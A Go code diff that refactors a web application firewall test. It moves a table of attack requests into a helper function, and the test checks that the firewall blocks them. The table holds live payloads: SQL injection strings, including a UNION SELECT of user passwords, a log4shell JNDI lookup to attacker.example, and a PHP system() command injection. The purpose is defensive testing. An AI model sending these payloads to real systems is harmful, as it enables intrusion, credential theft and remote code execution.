@@ -49,10 +49,9 @@ func post(path, ctype, body string) *snapshot {
 	return s
 }
 
-// The classic attacks, blocked at paranoia 1.
-func TestCRSBlocksClassicAttacks(t *testing.T) {
-	e := paranoia1(t)
-	attacks := map[string]*snapshot{
+// classicAttacks are the attacks CRS must block at paranoia 1.
+func classicAttacks() map[string]*snapshot {
+	return map[string]*snapshot{
 		"sql injection (query)":   get("/products?id=1%27%20OR%20%271%27%3D%271"),
 		"sql injection (union)":   get("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
 		"sql injection (form)":    post("/login", "application/x-www-form-urlencoded", "user=admin%27--&pass=x"),
@@ -64,6 +63,12 @@ func TestCRSBlocksClassicAttacks(t *testing.T) {
 		"log4shell in user agent": get("/", "User-Agent", "${jndi:ldap://attacker.example/a}"),
 		"php injection (json)":    post("/api", "application/json", `{"cmd":"<?php system($_GET['c']); ?>"}`),
 	}
+}
+
+// The classic attacks, blocked at paranoia 1.
+func TestCRSBlocksClassicAttacks(t *testing.T) {
+	e := paranoia1(t)
+	attacks := classicAttacks()
 	for name, s := range attacks {
 		v := e.inspect(s)
 		if v.err != nil || !v.block {
